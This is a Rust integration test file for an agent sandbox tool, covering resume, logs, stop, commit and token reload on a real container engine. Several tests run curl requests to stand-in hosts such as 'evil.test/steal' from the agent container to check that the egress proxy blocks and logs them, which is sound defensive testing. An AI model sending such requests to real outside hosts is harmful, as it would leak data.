//! The lifecycle commands on the real engine: resume after a crash, list active, logs, stop,
//! ten parallel launches, and a new user's first session in a terminal driven by tmux. Every
//! test removes what it made, also when it fails (DockerCleanup). `cleanup` has its own test
//! binary (tests/cleanup.rs): it removes every bottle on the engine.

use std::process::{Child, Output, Stdio};
use std::time::{Duration, Instant};

use bb_testkit::{DockerCleanup, Fixture, require_images, simple_bottle, text, unique_name};
use serde_json::Value;

const BOTTLE: &str = "egress:\n  routes:\n    - host: allowed.test\n      private: true\n";
const WAIT: &str = "run:touch /tmp/ready; while [ ! -e /tmp/done ]; do sleep 0.2; done";

struct Case {
    f: Fixture,
    name: String,
    env: Vec<(String, String)>,
    _cleanup: DockerCleanup,
}

impl Case {
    fn new(prefix: &str) -> Case {
        Case::with_bottle(prefix, BOTTLE)
    }

    fn with_bottle(prefix: &str, bottle: &str) -> Case {
        require_images();
        let f = Fixture::new();
        let name = unique_name(prefix);
        let cleanup = DockerCleanup::new(&name);
        let env = simple_bottle(&f, &name, bottle);
        Case {
            f,
            name,
            env,
            _cleanup: cleanup,
        }
    }

    fn bb(&self, args: &[&str]) -> Output {
        self.f
            .spawnable("bot-bottle")
            .args(args)
            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    fn start(&self, prompt: &str) -> Output {
        self.bb(&[
            "start",
            &self.name,
            "--headless",
            "--prompt",
            prompt,
            "--runtime",
            "runc",
        ])
    }

    /// `start` in the background with an agent that waits for /tmp/done; returns the child and
    /// the identity once the agent is up. The caller waits for the child.
    fn start_waiting(&self) -> (Child, String) {
        self.start_waiting_besides(&[])
    }

    /// [`Case::start_waiting`] for a bottle of the same name as the running `others`.
    #[allow(clippy::zombie_processes)]
    fn start_waiting_besides(&self, others: &[String]) -> (Child, String) {
        let mut child = self
            .f
            .spawnable("bot-bottle")
            .args(["start", &self.name, "--headless", "--prompt", WAIT])
            .args(["--runtime", "runc"])
            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let prefix = format!("bot-bottle-{}-", self.name);
        let deadline = Instant::now() + Duration::from_secs(180);
        loop {
            if Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                panic!("the agent never got ready");
            }
            let names = docker(&["ps", "--format", "{{.Names}}"]);
            let known = |n: &str| others.iter().any(|o| n == format!("bot-bottle-{o}-agent"));
            if let Some(agent) = names
                .lines()
                .find(|n| n.starts_with(&prefix) && n.ends_with("-agent") && !known(n))
                && exec(agent, "test -e /tmp/ready").status.success()
            {
                let identity = agent
                    .trim_start_matches("bot-bottle-")
                    .trim_end_matches("-agent")
                    .to_string();
                return (child, identity);
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    /// `bot-bottle ARGS` in the background; each line it prints arrives on the receiver.
    fn following(&self, args: &[&str]) -> (Child, std::sync::mpsc::Receiver<String>) {
        let mut child = self
            .f
            .spawnable("bot-bottle")
            .args(args)
            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let lines = std::io::BufRead::lines(std::io::BufReader::new(child.stdout.take().unwrap()));
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in lines.map_while(Result::ok) {
                if tx.send(line).is_err() {
                    return;
                }
            }
        });
        (child, rx)
    }

    fn state_dirs(&self) -> Vec<String> {
        std::fs::read_dir(self.f.home().join("state"))
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default()
    }

    fn left(&self) -> String {
        let prefix = format!("bot-bottle-{}-", self.name);
        let all = format!(
            "{}\n{}",
            docker(&["ps", "-a", "--format", "{{.Names}}"]),
            docker(&["network", "ls", "--format", "{{.Name}}"])
        );
        all.lines()
            .filter(|l| l.starts_with(&prefix))
            .collect::<Vec<_>>()
            .join(" ")
    }
}

fn docker(args: &[&str]) -> String {
    bb_testkit::docker_try(args).unwrap_or_default()
}

fn exec(container: &str, script: &str) -> Output {
    bb_testkit::docker_exec(container, "node", script)
}

fn wait(child: &mut Child) -> std::process::ExitStatus {
    bb_testkit::wait_for(Duration::from_secs(120), || child.try_wait().unwrap())
        .expect("the launch did not exit")
}

#[test]
fn a_crashed_agent_keeps_its_state_and_resume_brings_the_same_identity_back() {
    let c = Case::new("resume");
    // A conversation file where Claude Code keeps them, a note and an unpushed commit in the
    // home: all of it must come back.
    let out = c.start(
        "run:mkdir -p ~/.claude/projects/p && echo '{}' > ~/.claude/projects/p/s.jsonl && echo kept-note > ~/notes.txt && git init -q ~/w && git -C ~/w -c user.name=a -c user.email=a@example.org commit -q --allow-empty -m unpushed-commit && echo \"id=$BOT_BOTTLE_IDENTITY\"; exit 3",
    );
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    let identity = stdout
        .lines()
        .find_map(|l| l.strip_prefix("id="))
        .expect("the agent printed its identity")
        .to_string();
    assert!(
        stderr.contains(&format!("bot-bottle resume {identity}")),
        "{stderr}"
    );
    assert_eq!(
        c.state_dirs(),
        std::slice::from_ref(&identity),
        "state kept"
    );

    let volume = format!("bot-bottle-{identity}-home");
    assert_eq!(
        docker(&["volume", "ls", "-q", "--filter", &format!("name={volume}")]),
        volume,
        "the home volume outlived the containers"
    );

    let dry = c.bb(&["resume", &identity, "--dry-run"]);
    let (plan, stderr) = text(&dry);
    assert!(dry.status.success(), "{stderr}");
    assert!(
        plan.contains(&format!("home       {volume}")) && plan.contains("conversation"),
        "{plan}"
    );
    assert_eq!(c.left(), "", "--dry-run starts nothing");
    let out = c.bb(&[
        "resume",
        &identity,
        "--prompt",
        "run:echo \"id=$BOT_BOTTLE_IDENTITY\"; cat ~/notes.txt; git -C ~/w log --format=%s",
    ]);
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stdout.contains(&format!("id={identity}")),
        "same identity: {stdout}"
    );
    assert!(
        stdout.contains("kept-note") && stdout.contains("unpushed-commit"),
        "the home came back: {stdout}"
    );
    assert!(
        stdout.contains("\"--continue\""),
        "the provider's resume flag against the restored conversation: {stdout}"
    );
    assert_eq!(c.left(), "", "torn down");
    assert!(c.state_dirs().is_empty(), "a clean exit removes the state");
    assert_eq!(
        docker(&["volume", "ls", "-q", "--filter", &format!("name={volume}")]),
        "",
        "a clean exit removes the home volume"
    );

    // Gone now: one clear line, exit 2.
    let out = c.bb(&["resume", &identity]);
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("no saved state for"), "{stderr}");
}

#[test]
fn resume_without_a_conversation_starts_a_fresh_session_and_says_so() {
    let c = Case::new("fresh");
    let out = c.start("run:echo \"id=$BOT_BOTTLE_IDENTITY\"; exit 3");
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    let identity = stdout
        .lines()
        .find_map(|l| l.strip_prefix("id="))
        .expect("the agent printed its identity")
        .to_string();
    let out = c.bb(&["resume", &identity, "--prompt", "run:true"]);
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("no earlier conversation") && !stdout.contains("\"--continue\""),
        "{stdout}\n{stderr}"
    );
}

#[test]
fn commit_snapshots_the_agent_without_its_secrets_and_resume_starts_from_it() {
    let c = Case::new("commit");
    let (mut child, identity) = c.start_waiting();
    let agent = format!("bot-bottle-{identity}-agent");
    assert!(
        exec(&agent, "echo tool > /tmp/installed-tool")
            .status
            .success()
    );
    let tag = format!("bot-bottle-{}-snap:1", c.name);
    let out = c.bb(&["commit", &identity, "--tag", &tag]);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(stdout.trim(), tag);
    let env = docker(&["image", "inspect", "-f", "{{json .Config.Env}}", &tag]);
    assert!(
        env.contains("\"BOT_BOTTLE_CANARY=\""),
        "the canary is committed empty: {env}"
    );
    assert!(!env.contains("bbcanary_"), "{env}");
    let rows: Vec<Value> =
        serde_json::from_slice(&c.bb(&["list", "active", "--json"]).stdout).unwrap();
    assert!(
        rows.iter()
            .any(|r| r["identity"] == identity.as_str() && r["committed"] == tag.as_str()),
        "{rows:?}"
    );

    assert!(c.bb(&["stop", &identity]).status.success());
    wait(&mut child);
    let out = c.bb(&[
        "resume",
        &identity,
        "--prompt",
        "run:cat /tmp/installed-tool",
    ]);
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stdout.contains("tool"), "started from the image: {stdout}");
    assert!(
        stderr.contains(&format!("resuming from the committed image {tag}")),
        "{stderr}"
    );
}

#[test]
fn resume_refuses_state_from_another_schema() {
    let c = Case::new("oldstate");
    let dir = c.f.home().join("state/old-abcde");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("metadata.json"),
        r#"{"schema": "bot-bottle.plan/v0", "identity": "old-abcde"}"#,
    )
    .unwrap();
    let out = c.bb(&["resume", "old-abcde"]);
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("plan schema bot-bottle.plan/v0"),
        "{stderr}"
    );
    assert!(stderr.contains("bot-bottle start"), "{stderr}");
}

#[test]
fn list_active_logs_and_stop_from_another_terminal() {
    let c = Case::new("active");
    let (mut child, identity) = c.start_waiting();

    let out = c.bb(&["list", "active", "--json"]);
    let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let row = rows
        .iter()
        .find(|r| r["identity"] == identity.as_str())
        .unwrap_or_else(|| panic!("{identity} not listed: {rows:?}"));
    assert_eq!(row["status"], "running");
    assert_eq!(row["agent"], c.name.as_str());
    assert_eq!(row["runtime"], "runc");
    assert_eq!(row["sidecar"], "healthy");
    assert!(row["uptime_seconds"].as_i64().unwrap() >= 0);
    let table = text(&c.bb(&["list", "active"])).0;
    assert!(
        table.starts_with("IDENTITY") && table.contains(&identity),
        "{table}"
    );

    // A refused request shows up in the decision log, readable and raw.
    let agent = format!("bot-bottle-{identity}-agent");
    let _ = exec(&agent, "curl -sS -m 5 http://evil.test/steal");
    let logs = text(&c.bb(&["logs", &identity])).0;
    assert!(
        logs.lines()
            .any(|l| l.contains("BLOCK  egress  GET evil.test/steal")),
        "{logs}"
    );
    let raw = text(&c.bb(&["logs", &identity, "--json"])).0;
    for line in raw.lines() {
        serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("{line}: {e}"));
    }
    assert!(raw.contains("\"verdict\":\"block\""), "{raw}");

    // -f keeps printing decisions made after it started.
    let (mut follow, rx) = c.following(&["logs", &identity, "-f"]);
    std::thread::sleep(Duration::from_millis(500));
    let _ = exec(&agent, "curl -sS -m 5 http://evil.test/followed");
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut seen = false;
    while !seen && Instant::now() < deadline {
        if let Ok(line) = rx.recv_timeout(Duration::from_millis(200)) {
            seen = line.contains("GET evil.test/followed");
        }
    }
    let _ = follow.kill();
    let _ = follow.wait();
    assert!(seen, "logs -f printed the new decision");

    let out = c.bb(&["stop", &identity]);
    assert!(out.status.success(), "{}", text(&out).1);
    let status = wait(&mut child);
    assert_eq!(status.code(), Some(143), "the launch was terminated");
    assert_eq!(c.left(), "", "stop removed the bottle");
    let state = c.f.home().join("state").join(&identity);
    assert!(
        state.join("compose.log").is_file(),
        "logs dumped, state kept"
    );
    // The kept log still reads after the bottle is gone.
    let kept = text(&c.bb(&["logs", &identity])).0;
    assert!(kept.contains("GET evil.test/steal"), "{kept}");
    let rows: Vec<Value> =
        serde_json::from_slice(&c.bb(&["list", "active", "--json"]).stdout).unwrap();
    let mine: Vec<&Value> = rows
        .iter()
        .filter(|r| r["identity"] == identity.as_str())
        .collect();
    assert_eq!(mine.len(), 1, "{rows:?}");
    assert_eq!(mine[0]["status"], "kept", "stopped, resumable: {rows:?}");
    assert!(mine[0]["age_seconds"].as_i64().is_some(), "{rows:?}");
    assert!(text(&c.bb(&["list", "active"])).0.contains("kept"));

    let out = c.bb(&["stop", &identity]);
    assert_eq!(out.status.code(), Some(2), "nothing left to stop");
}

/// The refusals of `lines` (JSON) whose host is one of the test's `evil-<n>.test`, as
/// `(bottle, host)`, in the order given.
fn evil_refusals(lines: &[Value]) -> Vec<(String, String)> {
    lines
        .iter()
        .filter(|l| l["verdict"] == "block")
        .filter(|l| l["host"].as_str().is_some_and(|h| h.starts_with("evil-")))
        .map(|l| {
            assert_eq!(l["refused_by"]["rule"], "no_route", "{l}");
            assert_eq!(l["refused_by"]["key"], "egress.routes", "{l}");
            (
                l["bottle"].as_str().unwrap_or_default().to_owned(),
                l["host"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn json_lines(text: &str) -> Vec<Value> {
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect()
}

#[test]
fn logs_all_merges_three_bottles_in_order_and_each_stream_outlives_its_bottle() {
    let c = Case::new("audit");
    let mut identities = Vec::new();
    let mut launches = Vec::new();
    for _ in 0..3 {
        let (child, identity) = c.start_waiting_besides(&identities);
        launches.push(child);
        identities.push(identity);
    }
    let (mut follow, rx) = c.following(&["logs", "--all", "--follow", "--json"]);
    std::thread::sleep(Duration::from_secs(1));
    // Interleaved: each request is answered before the next one leaves.
    let mut sent = Vec::new();
    for round in 0..2 {
        for identity in &identities {
            let host = format!("evil-{round}.test");
            let agent = format!("bot-bottle-{identity}-agent");
            let _ = exec(&agent, &format!("curl -sS -m 5 http://{host}/x"));
            sent.push((identity.clone(), host));
        }
    }
    let mut followed = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if let Ok(line) = rx.recv_timeout(Duration::from_millis(200)) {
            followed.push(serde_json::from_str::<Value>(&line).unwrap());
            let mine = evil_refusals(&followed);
            if mine.iter().filter(|(b, _)| identities.contains(b)).count() == sent.len() {
                break;
            }
        }
    }
    let _ = follow.kill();
    let _ = follow.wait();
    let ours = |all: Vec<(String, String)>| -> Vec<(String, String)> {
        all.into_iter()
            .filter(|(b, _)| identities.contains(b))
            .collect()
    };
    assert_eq!(
        ours(evil_refusals(&followed)),
        sent,
        "followed, merged in order"
    );
    let all = json_lines(&text(&c.bb(&["logs", "--all", "--json"])).0);
    assert_eq!(
        ours(evil_refusals(&all)),
        sent,
        "the backlog, merged in order"
    );

    // --refused: only refusals, each naming the key to change.
    let refused = text(&c.bb(&["logs", &identities[0], "--refused"])).0;
    assert!(refused.lines().count() >= 2, "{refused}");
    for line in refused.lines() {
        assert!(line.contains("  BLOCK  "), "{line}");
    }
    assert!(
        refused.contains("GET evil-0.test/x  host evil-0.test is not in the allowlist  [no_route → egress.routes: add a route `- host: evil-0.test`"),
        "{refused}"
    );

    // The launch keeps each stream while the bottle runs, not only at teardown.
    for identity in &identities {
        let audit = c.f.home().join("state").join(identity).join("audit.jsonl");
        let deadline = Instant::now() + Duration::from_secs(10);
        let kept = || std::fs::read_to_string(&audit).unwrap_or_default();
        while !kept().contains("evil-1.test") && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(100));
        }
        assert!(kept().contains("evil-1.test"), "{identity}: {}", kept());
    }

    // Torn down, each stream is kept in its state folder and still reads.
    for identity in &identities {
        assert!(c.bb(&["stop", identity]).status.success());
    }
    for mut launch in launches {
        wait(&mut launch);
    }
    assert_eq!(c.left(), "");
    for identity in &identities {
        let state = c.f.home().join("state").join(identity);
        assert!(state.join("audit.jsonl").is_file(), "{identity}");
        let kept = json_lines(&text(&c.bb(&["logs", identity, "--json"])).0);
        let mine: Vec<(String, String)> = sent
            .iter()
            .filter(|(b, _)| b == identity)
            .cloned()
            .collect();
        assert_eq!(evil_refusals(&kept), mine, "{identity}");
        // Stopped before its log was kept: the sidecar's own last line is there too.
        assert!(
            kept.iter()
                .any(|l| l["service"] == "sidecar" && l["event"] == "stop"),
            "{identity}: {kept:?}"
        );
    }
}

#[test]
fn ten_parallel_launches_get_distinct_identities_and_leave_nothing() {
    let c = Case::new("par");
    let children: Vec<Child> = (0..10)
        .map(|_| {
            c.f.spawnable("bot-bottle")
                .args(["--quiet", "start", &c.name, "--headless", "--prompt"])
                .args(["run:echo \"id=$BOT_BOTTLE_IDENTITY\"", "--runtime", "runc"])
                .envs(c.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let mut identities = Vec::new();
    for child in children {
        let out = child.wait_with_output().unwrap();
        let (stdout, stderr) = text(&out);
        assert!(out.status.success(), "{stderr}");
        assert_eq!(stderr, "", "--quiet prints nothing but errors");
        identities.extend(
            stdout
                .lines()
                .filter_map(|l| l.strip_prefix("id="))
                .map(str::to_string),
        );
    }
    identities.sort();
    identities.dedup();
    assert_eq!(identities.len(), 10, "{identities:?}");
    assert_eq!(c.left(), "");
    assert!(c.state_dirs().is_empty());
}

#[test]
fn a_new_user_in_a_terminal_inits_starts_answers_and_exits() {
    require_images();
    let f = Fixture::new();
    let session = unique_name("tmux");
    let cleanup = DockerCleanup::new("starter");
    let bin_dir = bb_testkit::bin_path("bot-bottle")
        .parent()
        .unwrap()
        .to_path_buf();
    // The user's shell: bot-bottle's home in the fixture, the test agent image, a fake token.
    let rc = f.write(
        "rc.sh",
        &format!(
            "export PATH={}:$PATH BOT_BOTTLE_HOME={} HOME={} BOT_BOTTLE_IMAGE={} \
             BOT_BOTTLE_BASE_IMAGE=bot-bottle-base:local CLAUDE_CODE_OAUTH_TOKEN=fake-token-for-test PS1='$ '\n",
            bin_dir.display(),
            f.home().display(),
            f.path("user").display(),
            bb_testkit::TEST_AGENT_IMAGE
        ),
    );
    let term = bb_testkit::tmux::Tmux::start(&session);
    let type_line = |line: &str| term.type_line(line);
    let wait_for = |what: &str, secs: u64| term.wait_for(what, secs);
    let screen = || term.screen();
    type_line(&format!(". {}", rc.display()));
    // Markers the shell computes, so the typed command line itself never matches.
    type_line("bot-bottle init && echo init-$((1+1))");
    wait_for("init-2", 60);
    type_line("bot-bottle start starter --runtime runc");
    wait_for("launch this agent? [y/N]", 180);
    type_line("y");
    // capture-pane drops trailing blanks: the prompt shows as `stub-agent>`.
    wait_for("stub-agent>", 180);
    assert!(
        screen().contains("(sidecar healthy) ("),
        "compose up's progress line: {}",
        screen()
    );
    assert!(
        screen().contains("routes     github.com"),
        "the preflight: {}",
        screen()
    );
    type_line("exit");
    wait_for("stub-agent: bye", 60);
    // Keys typed while the launch tears down would go to the closing agent terminal: wait for
    // the shell's prompt first.
    term.wait_for_prompt(120);
    type_line("echo agent-exited-$?");
    wait_for("agent-exited-0", 180);
    // Other tests' bottles may be running meanwhile: none of this user's may be.
    type_line(
        "n=$(bot-bottle list active | grep -c ' starter '); echo \"starter-rows-$((n+100))\"",
    );
    wait_for("starter-rows-1", 120);
    assert!(screen().contains("starter-rows-100"), "{}", screen());
    drop(cleanup);
}

#[test]
fn stop_after_the_launch_was_killed_removes_the_bottle_itself() {
    let c = Case::new("orphan");
    let (mut child, identity) = c.start_waiting();
    child.kill().unwrap(); // SIGKILL: no teardown ran
    child.wait().unwrap();
    assert_ne!(c.left(), "", "the bottle outlived its launch");
    let out = c.bb(&["stop", &identity]);
    assert!(out.status.success(), "{}", text(&out).1);
    assert_eq!(c.left(), "", "stop removed containers and networks");
    let log = std::fs::read_to_string(c.f.home().join("state").join(&identity).join("compose.log"))
        .unwrap();
    assert!(
        log.contains(&format!("bot-bottle-{identity}-sidecar | ")),
        "the sidecar's log was dumped: {log}"
    );
    let volume = format!("bot-bottle-{identity}-home");
    assert_eq!(
        docker(&["volume", "ls", "-q", "--filter", &format!("name={volume}")]),
        volume,
        "the home outlived the killed launch and stop"
    );
}

const OLD_TOKEN: &str = "reload-old-Zq81Lm4TxVe";
const NEW_TOKEN: &str = "reload-new-Hb27Wc9KsJu";

/// What the proxy answers the agent for a body holding `value` (curl's status line).
fn sent(agent: &str, value: &str) -> String {
    let out = exec(
        agent,
        &format!(
            "curl -sS -m 10 -o - -w ' status=%{{http_code}}' -d v={value} https://allowed.test/x"
        ),
    );
    text(&out).0
}

#[test]
fn reload_reads_the_bottle_file_and_the_tokens_again_without_a_restart() {
    let work = tempfile::tempdir().unwrap();
    let token_file = work.path().join("token");
    std::fs::write(&token_file, format!("{OLD_TOKEN}\n")).unwrap();
    let bottle = format!(
        "egress:\n  routes:\n    - host: allowed.test\n      private: true\n      auth: {{scheme: Bearer, token_file: \"{}\"}}\n",
        token_file.display()
    );
    let c = Case::with_bottle("reload", &bottle);
    let (mut child, identity) = c.start_waiting();
    let agent = format!("bot-bottle-{identity}-agent");
    let sidecar = format!("bot-bottle-{identity}-sidecar");
    let started =
        |container: &str| docker(&["inspect", "-f", "{{.Id}} {{.State.StartedAt}}", container]);
    let (agent_before, sidecar_before) = (started(&agent), started(&sidecar));
    let before = sent(&agent, OLD_TOKEN);
    assert!(
        before.contains("known_secrets") && before.contains("status=403"),
        "{before}"
    );

    // The token changes at its source, and the bottle file gains a route.
    std::fs::write(&token_file, format!("{NEW_TOKEN}\n")).unwrap();
    let file = c.f.home().join("bottles").join(format!("{}.md", c.name));
    let text_before = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        text_before.replacen(
            "egress:\n  routes:\n",
            "egress:\n  routes:\n    - host: new.test\n      private: true\n",
            1,
        ),
    )
    .unwrap();
    let out = c.bb(&["reload", &identity]);
    assert!(out.status.success(), "{}", text(&out).1);
    assert!(text(&out).1.contains("EGRESS_TOKEN_1"), "{}", text(&out).1);

    let now_known = sent(&agent, NEW_TOKEN);
    assert!(
        now_known.contains("known_secrets") && now_known.contains("status=403"),
        "the new value is the token now: {now_known}"
    );
    let old = sent(&agent, OLD_TOKEN);
    assert!(
        !old.contains("known_secrets"),
        "the old value is no token any more: {old}"
    );
    let table = text(&exec(
        &agent,
        "curl -sS -m 10 http://_egress.local/allowlist",
    ))
    .0;
    assert!(table.contains("new.test"), "the new route is live: {table}");
    assert_eq!(
        (started(&agent), started(&sidecar)),
        (agent_before, sidecar_before),
        "nothing restarted"
    );
    for file in bb_testkit::walk(&c.f.home()) {
        if file.is_file() {
            let bytes = std::fs::read(&file).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains(NEW_TOKEN),
                "the token is in {}",
                file.display()
            );
        }
    }

    let _ = exec(&agent, "touch /tmp/done");
    wait(&mut child);
    let out = c.bb(&["reload", &identity]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "a stopped bottle: {}",
        text(&out).1
    );
}
